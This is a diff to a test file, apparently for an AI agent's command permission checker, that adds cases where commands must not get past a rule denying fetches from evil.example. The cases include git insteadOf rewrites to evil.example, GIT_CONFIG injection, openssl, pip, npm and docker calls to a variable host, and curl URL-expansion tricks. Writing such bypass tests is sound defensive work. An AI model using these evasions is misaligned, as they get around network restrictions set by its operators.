@@ -75,6 +75,25 @@ test.each([
 	'git -C x push "$R" main',
 	'declare -x ALL_PROXY=$P; wget x.test',
 	'env https_proxy="$P" curl x.test',
+	'git -c url.http://evil.example.insteadOf=http://x pull http://x',
+	'git -c url.ssh://git@evil.example.pushInsteadOf=x push x',
+	'git config url.http://evil.example.insteadof http://x && git pull http://x',
+	'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=url.http://evil.example.insteadOf GIT_CONFIG_VALUE_0=http://x git pull http://x',
+	'git -c "url.$U.insteadOf=http://x" pull http://x',
+	'openssl s_client -connect $H:443',
+	'openssl s_client -connect evil.example:443',
+	'pip download -i http://$H x',
+	'python3 -m pip download -i http://$H x',
+	'npm install --registry "http://$H" x',
+	'psql -h $H',
+	'docker pull $H/x',
+	'cargo install --git https://$H/x',
+	'C=curl; $C http://x.test',
+	"curl --variable h=evil --expand-url 'http://{{h}}.example'",
+	"curl --expand-url '{{h}}' --var h@list",
+	'curl --url @list',
+	'curl --url=@list',
+	'ssh -F config good.example',
 ])('deny Fetch(evil.example) does not let through: %s', (text) =>
 	expect(denied('evil.example', text)).not.toBe('allow'),
 );
@@ -122,6 +141,10 @@ test.each([
 	'python3 -c "print(1)"',
 	'curl -H \'Accept: {"a":[1]}\' -d \'{"a": 1}\' http://good.example/api',
 	'curl "http://[::1]:3000/"',
+	'pip install requests',
+	'npm run build -- "$x"',
+	'git commit -m "$message"',
+	'curl -d @body.json http://good.example',
 ])('deny Fetch(evil.example) lets through: %s', (text) => expect(denied('evil.example', text)).toBe('allow'));
 
 test('A proxy that the request sets counts as well', () => {
